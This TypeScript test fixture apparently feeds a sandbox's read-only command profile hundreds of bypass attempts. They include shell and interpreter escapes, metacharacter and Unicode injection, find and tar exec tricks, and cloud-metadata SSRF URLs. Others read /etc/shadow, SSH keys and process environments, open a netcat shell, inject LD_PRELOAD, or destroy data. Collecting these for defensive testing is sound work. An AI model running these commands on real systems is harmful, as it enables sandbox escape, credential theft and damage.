/**
 * Attempts to bypass the read-only profile: to run another program, to write a file, to read a protected one. `CANARY` is a file that must not appear,
 * `SECRET` one whose content must not be shown, `DIR` a world-writable directory.
 */

import { moreBypassAttempts } from "./more-bypass-attempts.fixture.ts";

export interface Attempt {
  text?: string;
  argv?: string[];
  environment?: Record<string, string>;
  workingDirectory?: string;
}

/** Programs that start other programs, with arguments that do so. */
const launchers =
  `sh -c 'touch CANARY'|bash -c 'touch CANARY'|dash -c 'touch CANARY'|zsh -c 'touch CANARY'|ksh -c 'touch CANARY'|fish -c 'touch CANARY'|busybox touch CANARY|busybox sh -c 'touch CANARY'|toybox touch CANARY
env touch CANARY|env -S 'touch CANARY'|xargs touch CANARY|nice touch CANARY|nohup touch CANARY|timeout 5 touch CANARY|watch -n 1 touch CANARY|time touch CANARY|setsid touch CANARY|stdbuf -o0 touch CANARY|script -c 'touch CANARY'
ionice touch CANARY|taskset 1 touch CANARY|chrt 1 touch CANARY|flock DIR/lock touch CANARY|prlimit touch CANARY|setpriv touch CANARY|setarch x86_64 touch CANARY|linux64 touch CANARY|numactl touch CANARY|unbuffer touch CANARY|parallel touch CANARY
chroot / touch CANARY|unshare touch CANARY|nsenter -t 1 touch CANARY|capsh -- -c 'touch CANARY'|sudo touch CANARY|su -c 'touch CANARY'|doas touch CANARY|pkexec touch CANARY|runuser -u root touch CANARY|start-stop-daemon --start --exec /usr/bin/touch CANARY
systemd-run touch CANARY|systemd-nspawn touch CANARY|at now -f CANARY|batch|crontab SECRET|run-parts DIR|perl -e 'open F,">CANARY"'|python3 -c 'open("CANARY","w")'|python -c 'open("CANARY","w")'|ruby -e 'File.write("CANARY","")'|node -e 'fs.writeFileSync("CANARY","")'
php -r 'touch("CANARY");'|lua -e 'io.open("CANARY","w")'|tclsh DIR/x|awk 'BEGIN{system("touch CANARY")}'|gawk 'BEGIN{system("touch CANARY")}'|mawk 'BEGIN{print > "CANARY"}'|sed -n 'w CANARY' /etc/hosts|sed '1e touch CANARY' /etc/hosts|ed CANARY
vi -c ':!touch CANARY'|vim -c ':!touch CANARY'|view -c ':!touch CANARY'|rvim -c ':w CANARY'|ex -c ':w CANARY'|nano CANARY|emacs --batch --eval '(write-file "CANARY")'|less SECRET|more SECRET|man -P 'touch CANARY' ls|info -o CANARY
ssh -o ProxyCommand='touch CANARY' x|scp SECRET CANARY|sftp -o ProxyCommand='touch CANARY' x|rsync -e 'touch CANARY' x: y|tar cf CANARY /etc/hosts|tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec='touch CANARY'|cpio -o|zip CANARY SECRET
git -c core.pager='touch CANARY' log|git help -a|make -f DIR/x|gcc -wrapper touch,CANARY x|gdb -batch -ex 'shell touch CANARY'|ltrace touch CANARY|perf record -o CANARY true|strace touch CANARY|ltrace -o CANARY true|valgrind touch CANARY|docker run x|kubectl exec x|crictl exec x|ctr run x
tee CANARY|cp /etc/hosts CANARY|mv SECRET CANARY|ln -s /etc/hosts CANARY|install /etc/hosts CANARY|dd of=CANARY|touch CANARY|mkdir CANARY|truncate -s 0 CANARY|mktemp CANARY|mknod CANARY p|mkfifo CANARY|chmod 777 SECRET|chown nobody SECRET|rm SECRET|shred SECRET|split SECRET CANARY|csplit SECRET 1
socat - EXEC:'touch CANARY'|nc -e /bin/sh x 1|ncat -c 'touch CANARY' x 1|telnet x|wget -O CANARY http://127.0.0.1/|openssl enc -in SECRET -out CANARY|base64 SECRET|xxd SECRET CANARY|od SECRET|hexdump SECRET|strings SECRET|rev SECRET|paste SECRET|comm SECRET SECRET|diff SECRET /etc/hosts
join SECRET SECRET|fold SECRET|fmt SECRET|pr SECRET|expand SECRET|iconv SECRET|jq . SECRET|bc SECRET|dc -f SECRET|m4 SECRET|cmp SECRET /etc/hosts|file -f SECRET|readelf -a SECRET|sqlite3 CANARY 'create table x(y)'|mysql -e '\\! touch CANARY'|psql -c '\\! touch CANARY'|kill -9 1|pkill x|reboot|shutdown now|halt|mount -o bind SECRET CANARY
insmod DIR/x|modprobe x|rmmod x|sysctl -w kernel.x=1|iptables -F|nft flush ruleset|tc qdisc add|useradd x|passwd|chsh|visudo|ld.so /bin/touch CANARY|printf x|test -f SECRET|expr x|eval x|exec x|source SECRET|. SECRET|alias ps=sh|ip-netns x`
    .split(/[|\n]/)
    .map((text) => ({ text: text.trim() }));

/** Syntax that only a shell interprets. */
const metacharacters = [
  "true; touch CANARY",
  "true ;touch CANARY",
  "true && touch CANARY",
  "false || touch CANARY",
  "true & touch CANARY",
  "true\ntouch CANARY",
  "true\r\ntouch CANARY",
  "true\u2028touch CANARY",
  "true\u0085touch CANARY",
  "true | touch CANARY",
  "true |touch CANARY",
  "true | cat | sh -c 'touch CANARY'",
  "true | xargs touch CANARY",
  "echo CANARY | xargs touch",
  "echo 'touch CANARY' | sh",
  "echo $(touch CANARY)",
  'echo "$(touch CANARY)"',
  "echo `touch CANARY`",
  'echo "`touch CANARY`"',
  "echo $" + "{IFS}touch",
  "touch$" + "{IFS}CANARY",
  "{touch,CANARY}",
  "{ touch CANARY; }",
  "(touch CANARY)",
  "echo x > CANARY",
  "echo x >CANARY",
  "echo x >> CANARY",
  "echo x >| CANARY",
  "echo x 2> CANARY",
  "echo x &> CANARY",
  "echo x >& CANARY",
  "echo x 1>CANARY",
  "cat < SECRET",
  "cat <SECRET",
  "cat <<< x",
  "cat <(cat SECRET)",
  "echo >(touch CANARY)",
  "! touch CANARY",
  "PATH=DIR ps",
  "LD_PRELOAD=DIR/x.so ps",
  "A=1 touch CANARY",
  "$SHELL -c 'touch CANARY'",
  "$0 -c 'touch CANARY'",
  "$'\\x74ouch' CANARY",
  "to''uch CANARY",
  't""ouch CANARY',
  "t\\ouch CANARY",
  "'touch' CANARY",
  '"touch" CANARY',
  "/usr/bin/t?uch CANARY",
  "/usr/bin/t*ch CANARY",
  "/usr/bin/[t]ouch CANARY",
  "~/ps",
  "~root/ps",
  "ps #\ntouch CANARY",
  "ps \\\ntouch CANARY",
  "ps\u00a0;\u00a0touch CANARY",
  "ps \u037e touch CANARY",
  "ps \uff5c touch CANARY",
  "ps \uff1b touch CANARY",
  "\u200btouch CANARY",
  "p\u0455 aux",
  "ps\u0000; touch CANARY",
  "ps aux\u0000; touch CANARY",
  "ps '\ntouch CANARY'",
  "coproc touch CANARY",
  "if true",
  "for i in a",
  "while true",
  "function x",
  "[[ -f SECRET ]]",
  "[ -f SECRET ]",
  ": > CANARY",
  "trap 'touch CANARY' EXIT",
  "time -o CANARY true",
  "command touch CANARY",
  "builtin echo x",
  "exec touch CANARY",
  "ps aux || sh",
  "ps aux |& sh",
  "| touch CANARY",
  "touch CANARY |",
  "echo x 2>&1 >CANARY",
  "echo x >/dev/null/../../CANARY",
  "echo x >/dev/null>CANARY",
].map((text) => ({ text }));

/** Options of programs in the profile. */
const options =
  `find / -exec touch CANARY ;|find / -maxdepth 0 -exec touch CANARY '{}' '+'|find / -maxdepth 0 -execdir touch CANARY '{}' '+'|find / -maxdepth 0 -ok touch CANARY ';'|find / -maxdepth 0 -okdir touch CANARY ';'|find DIR -delete|find / -maxdepth 0 -fprint CANARY|find / -maxdepth 0 -fprintf CANARY x|find / -maxdepth 0 -fprint0 CANARY|find / -maxdepth 0 -fls CANARY
find -files0-from SECRET|find / -files0-from SECRET|find -L / -maxdepth 0 -exec touch CANARY '+'|find -D exec /|find . -maxdepth 0|find / -maxdepth 0 -e"x"ec touch CANARY '+'|find / -newer CANARY -exec touch CANARY '+'
curl -o CANARY http://127.0.0.1:1/|curl -oCANARY http://127.0.0.1:1/|curl -so CANARY http://127.0.0.1:1/|curl --output CANARY http://127.0.0.1:1/|curl --outpu CANARY http://127.0.0.1:1/|curl -O http://127.0.0.1:1/x|curl --remote-name http://127.0.0.1:1/x|curl -K SECRET|curl --config SECRET|curl -T SECRET http://127.0.0.1:1/|curl --upload-file SECRET http://127.0.0.1:1/
curl -d @SECRET http://127.0.0.1:1/|curl --data-binary @SECRET http://127.0.0.1:1/|curl -F x=@SECRET http://127.0.0.1:1/|curl file://SECRET|curl FILE://SECRET|curl -I file://SECRET|curl --url file://SECRET|curl --proto =file file://SECRET|curl http://127.0.0.1:1/ file://SECRET|curl -w @SECRET http://127.0.0.1:1/|curl -w '%output{CANARY}x' http://127.0.0.1:1/|curl -w '% output{CANARY}x' http://127.0.0.1:1/
curl -D CANARY http://127.0.0.1:1/|curl --dump-header CANARY http://127.0.0.1:1/|curl -c CANARY http://127.0.0.1:1/|curl -b SECRET http://127.0.0.1:1/|curl --trace CANARY http://127.0.0.1:1/|curl --trace-ascii CANARY http://127.0.0.1:1/|curl --stderr CANARY http://127.0.0.1:1/|curl --libcurl CANARY http://127.0.0.1:1/|curl --hsts CANARY http://127.0.0.1:1/|curl --alt-svc CANARY http://127.0.0.1:1/|curl --etag-save CANARY http://127.0.0.1:1/
curl -X DELETE http://127.0.0.1:1/|curl -XPOST http://127.0.0.1:1/|curl --request PUT http://127.0.0.1:1/|curl -d x http://127.0.0.1:1/|curl --json x http://127.0.0.1:1/|curl -H 'X-HTTP-Method-Override: DELETE' http://127.0.0.1:1/|curl -H @SECRET http://127.0.0.1:1/|curl -L http://127.0.0.1:1/|curl --location http://127.0.0.1:1/|curl -x http://127.0.0.1:1 http://x/|curl --unix-socket /run/docker.sock http://x/
curl http://169.254.169.254/latest/meta-data/|curl http://[::ffff:169.254.169.254]/|curl http://[fd00:ec2::254]/|curl http://2852039166/|curl http://0xA9FEA9FE/|curl http://0251.0376.0251.0376/|curl http://169.254.43518/|curl http://metadata.google.internal/|curl http://127.0.0.1@169.254.169.254/|curl 'http://127.0.0.1\\@169.254.169.254/'|curl 'http://{127.0.0.1,169.254.169.254}/'|curl 'http://[1-2].0.0.1/'|curl http://100.100.100.200/|curl http://168.63.129.16/
curl http://example.com/|curl localhost|curl 127.0.0.1|curl ftp://127.0.0.1/|curl gopher://127.0.0.1/|curl dict://127.0.0.1/|curl scp://127.0.0.1/|curl telnet://127.0.0.1/|curl --resolve localhost:80:169.254.169.254 http://localhost/|curl --connect-to ::169.254.169.254: http://localhost/|curl --interface x http://localhost/|curl --next http://localhost/|curl -u SECRET http://localhost/|curl -E SECRET https://localhost/|curl --cacert SECRET https://localhost/|curl -n http://localhost/
curl --engine DIR/x.so http://localhost/|curl --doh-url http://x http://localhost/|curl -: http://localhost/|curl -q -K SECRET|curl -sK SECRET|curl -IK SECRET http://localhost/|curl --parallel-max 3 http://localhost/|curl --create-dirs -o CANARY http://localhost/|curl --output-dir DIR -O http://localhost/x
tcpdump -c 1 -w CANARY|tcpdump -c 1 -v port 80|tcpdump -nvvc 1|tcpdump -w CANARY -c 1|tcpdump -c1 -wCANARY|tcpdump -c 1 -z touch|tcpdump -c 1 -G 1 -w CANARY -z touch|tcpdump -c 1 -r SECRET|tcpdump -c 1 -F SECRET|tcpdump -c 1 -V SECRET|tcpdump -c 1 -A|tcpdump -c 1 -X|tcpdump -c 1 -xx|tcpdump -i any|tcpdump -c 99999999|tcpdump -c 1 -Z root|tcpdump -c 1 -E SECRET|tcpdump -c 1 -m SECRET|tcpdump -c 1 -I|tcpdump -c 1 -C 1 -W 1
journalctl --rotate|journalctl --vacuum-size=1|journalctl --vacuum-time=1s|journalctl --vacuum-files=1|journalctl --flush|journalctl --sync|journalctl --file SECRET|journalctl -D DIR|journalctl --root DIR|journalctl --image SECRET|journalctl -M x|journalctl --cursor-file CANARY|journalctl --setup-keys|journalctl --update-catalog|journalctl --vac|journalctl --rel|journalctl -H x
dmesg -C|dmesg -c|dmesg --clear|dmesg --read-clear|dmesg -n 1|dmesg -D|dmesg -E|dmesg -F SECRET|dmesg --file SECRET|dmesg -K SECRET|dmesg -H|dmesg --human|dmesg -Tc|ss -K|ss -tK|ss --kill dst 127.0.0.1|ss -F SECRET|ss -D CANARY|ss --diag CANARY|ss -N x|ss --net x|ss -tpD CANARY
ip link set lo down|ip l s lo down|ip addr add 1.1.1.1 dev lo|ip a a 1.1.1.1 dev lo|ip route del default|ip r d default|ip netns exec x touch CANARY|ip netns add x|ip -n x link|ip -batch SECRET|ip -b SECRET|ip -force -b SECRET|ip vrf exec x touch CANARY|ip link sh dev lo set down|ip monitor file CANARY|ip route save|ip route restore|ip addr save|ip tuntap add|ip xfrm state flush|ip -all netns exec touch CANARY|ip netns identify 1|ip link add x type dummy|ip neigh flush all|ip rule add from all
top|top -c|top -n 1|top -b|top -b -n 99|top -b -n 1 -W|strace -p 1|strace -c touch CANARY|strace -c -p 1 -o CANARY|strace -o '|touch CANARY' -c -p 1|strace -cp 1 -e inject=all:error=EPERM|strace -c -p 1 -e fault=open|strace -f -p 1 -e read=3|strace -C -p 1|strace -c -p 1 -u root|strace -c -p 1 touch CANARY|strace -c -E LD_PRELOAD=DIR/x.so -p 1
sort -o CANARY /etc/hosts|sort -oCANARY|sort --output=CANARY|sort --compress-program=DIR/x|sort --comp=touch|sort -T DIR|sort SECRET|sort --files0-from=SECRET|sort -m SECRET|uniq /etc/hosts CANARY|uniq SECRET|uniq - CANARY|cat SECRET|cat /etc/shadow|cat -- SECRET|cat //etc//shadow|cat /etc/../etc/shadow|cat /var/log/../../etc/shadow|cat /proc/self/root/etc/shadow|cat /proc/1/root/etc/shadow|cat /proc/self/cwd/etc/shadow
cat /proc/self/environ|cat /proc/1/environ|cat /proc/self/mem|cat /proc/self/fd/0|cat /proc/self/exe|cat /proc/self/map_files/x|cat /proc/kcore|cat /proc/kallsyms|cat /dev/mem|cat /dev/sda|cat /etc/passwd/../shadow|cat /var/log/./../../SECRET|cat etc/shadow|cat ../etc/shadow|cat /root/.ssh/id_rsa|cat /var/logs|cat /var/log/../lib/x|head -c 100 SECRET|head -n1 SECRET|tail SECRET|tail -f SECRET|tail -n +1 SECRET|tac SECRET|nl SECRET|cut -c1-9 SECRET|wc -l --files0-from=SECRET
grep '' SECRET|grep -e '' SECRET|grep --regexp= SECRET|grep -f SECRET SECRET|grep -f SECRET /etc/hosts|grep -r '' DIR|grep -R '' /var/log|grep -rl '' /root|grep -r x|grep x -- SECRET|grep -e x -e y SECRET|egrep '' SECRET|fgrep '' SECRET|grep x /etc/hosts SECRET|grep --file=SECRET x|grep --exclude-from=SECRET x /etc/hosts|grep --include=x --directories=recurse x /root
date -s 2020-01-01|date --set=2020-01-01|date -f SECRET|date --file=SECRET|date -r SECRET|date 010100002020|date -d 'TZ="../../SECRET" now'|hostname evil|hostname -F SECRET|hostname -b x|sysctl kernel.hostname=x|sysctl -p SECRET|sysctl --system|sysctl -w x=1|sysctl -f SECRET|getent shadow|getent passwd root|getent gshadow|dig -f SECRET|dig -k SECRET x|dig @127.0.0.1 -f SECRET|dig +tls-ca=SECRET x|host -f SECRET|nslookup|nslookup -|ping 127.0.0.1|ping -f 127.0.0.1|ping -c 100 127.0.0.1|ping -i 0.001 -c 5 127.0.0.1
ps e|ps auxe|ps axe|ps -aux -e|ps -auxe|ps -u xe|ps -fu ew|ps -g e 1|ps -o environ|ps -eo pid,environ|ps auxeww|ps -ue|ps -eue|lsof -D b|lsof -k SECRET|lsof -m SECRET|lsof +D /|lsof -r 1|lsof -A SECRET|lsof -o CANARY|systemctl stop ssh|systemctl start x|systemctl restart x|systemctl kill x|systemctl edit x|systemctl cat x|systemctl show x|systemctl daemon-reload|systemctl -H x status|systemctl -M x status|systemctl --root DIR list-units|systemctl status --root=DIR|systemctl mask x|systemctl set-property x y=z|systemctl poweroff|systemctl|systemctl import-environment
iostat -f DIR|pidstat -e touch CANARY|pidstat -e sh -c 'touch CANARY'|netstat --kill|vmstat -p x y z|lsblk --sysroot DIR|lscpu -s DIR|findmnt -F SECRET|findmnt --tab-file SECRET|du --files0-from=SECRET|du -X SECRET /|ls relative|ls --hyper|stat relative|column -t SECRET|tr a b c|id -Z x y|who SECRET|w SECRET|uname x|traceroute -i x -g y -z|free x|df --files0-from=SECRET|uptime x|nproc x`
    .split(/[|\n](?![^']*'(?:[^']*'[^']*')*[^']*$)/)
    .map((text) => ({ text: text.trim() }));

/** Other paths to the same programs. */
const ways: Attempt[] = [
  ...[
    "/proc/self/exe",
    "/proc/self/root/bin/sh",
    "/proc/1/root/bin/sh",
    "/proc/self/cwd/bin/sh",
    "//bin/sh",
    "/bin//sh",
    "/bin/../bin/sh",
    "/usr/bin/../../bin/sh",
    "/bin/./sh",
    "/lib64/ld-linux-x86-64.so.2",
    "/dev/fd/0",
    "./sh",
    "../bin/sh",
    "bin/sh",
    "sh/",
    "-sh",
    "DIR/ps",
    "DIR/link-ps",
    "DIR/script-ps",
    "DIR/../DIR/ps",
    "PS",
    "Ps",
    "ps ",
    " ps",
    "ps\t",
    "ps\n",
    "\\ps",
    "ps/../sh",
  ].map((program) => ({ argv: [program, "-c", "touch CANARY"] })),
  { argv: ["ps; touch CANARY"] },
  { argv: ["ps", "aux; touch CANARY"] },
  { argv: ["ps", "aux|touch CANARY"] },
  { argv: ["ps", "|", "touch", "CANARY"] },
  { argv: ["sh", "-c", "touch CANARY"] },
  { argv: ["env", "sh", "-c", "touch CANARY"] },
  { argv: ["find", "/", "-maxdepth", "0", "-exec", "touch", "CANARY", ";"] },
  { argv: ["cat", "SECRET"] },
  { argv: ["cat", "/var/log/coral-bypass-test/link"] },
  { argv: ["grep", "", "/var/log/coral-bypass-test/link"] },
  { argv: ["cat", "/var/log/coral-bypass-test/out/shadow"] },
  { argv: ["grep", "-r", "", "/var/log/coral-bypass-test/out"] },
  { argv: ["grep", "-rh", "", "/var/log/coral-bypass-test/out/"] },
  { argv: ["sysctl", "kernel/../../../etc/passwd"] },
  { argv: ["sysctl", "-n", "../../etc/passwd"] },
  { argv: ["sysctl", "-n", "/etc/passwd"] },
  { argv: ["sysctl", "net/../../../SECRET"] },
  { argv: ["curl", "--user-agent", "x\r\nX-HTTP-Method-Override: DELETE", "http://127.0.0.1:1/"] },
  { argv: ["curl", "-A", "x\r\nX-Evil: 1", "http://127.0.0.1:1/"] },
  { argv: ["curl", "-H", "Accept: x\r\nX-Evil: 1", "http://127.0.0.1:1/"] },
  { argv: ["curl", "-H", "Host: 169.254.169.254", "http://127.0.0.1:1/"] },
  { argv: ["curl", "http://127.0.0.1:1/\r\nX-Evil: 1"] },
  { argv: ["curl", "http://127.0.0.1:1/ HTTP/1.1"] },
  { argv: ["cat", "/etc/shadow\n"] },
  { argv: ["cat", "/etc/hosts/../shadow"] },
  { argv: [""] },
  { argv: ["\0"] },
  { argv: ["ps\0x"] },
  { text: "true", workingDirectory: "DIR" },
  { text: "true", workingDirectory: "/proc/self/root" },
];

/** Variables that change which code runs or which file is read. */
const variables: Attempt[] =
  `LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT LD_DEBUG_OUTPUT LD_PROFILE LD_BIND_NOW GCONV_PATH LOCPATH NLSPATH GLIBC_TUNABLES MALLOC_TRACE HOSTALIASES RESOLV_HOST_CONF RES_OPTIONS LOCALDOMAIN TZDIR PATH IFS ENV BASH_ENV SHELLOPTS PS4 PROMPT_COMMAND BASH_FUNC_ps
  PAGER SYSTEMD_PAGER LESS LESSOPEN LESSCLOSE EDITOR VISUAL GIT_PAGER MANPAGER HOME XDG_CONFIG_HOME CURL_HOME CURL_CA_BUNDLE http_proxy https_proxy ALL_PROXY SSLKEYLOGFILE OPENSSL_CONF TMPDIR TERMINFO TERMINFO_DIRS TERMCAP PYTHONPATH PERL5LIB PERL5OPT NODE_OPTIONS RUBYOPT JAVA_TOOL_OPTIONS DYLD_INSERT_LIBRARIES POSIXLY_CORRECT GREP_OPTIONS
  PS_FORMAT PS_PERSONALITY PROCPS_FROMLEN STRACE_OPTS SYSTEMD_LOG_LEVEL SYSTEMD_EDITOR LS_COLORS CORAL_COMMAND_ID`
    .split(/\s+/)
    .map((name) => ({ text: "true", environment: { [name]: "DIR/x" } }));

const values: Attempt[] = (
  [
    ["LANG", "../../DIR/x"],
    ["LC_ALL", "DIR/x"],
    ["LANGUAGE", "../../../DIR"],
    ["TZ", "/etc/shadow"],
    ["TZ", ":/etc/shadow"],
    ["TZ", "../../etc/shadow"],
    ["TERM", "../../DIR/x"],
    ["LANG", "C\nLD_PRELOAD=x"],
    ["lang", "C"],
    ["LANG=C LD_PRELOAD", "x"],
    ["", "x"],
  ] as const
).map(([name, value]) => ({ text: "true", environment: { [name]: value } }));

export const bypassAttempts: readonly Attempt[] = [
  ...launchers,
  ...metacharacters,
  ...options,
  ...moreBypassAttempts.map((text) => ({ text })),
  ...ways,
  ...variables,
  ...values,
];
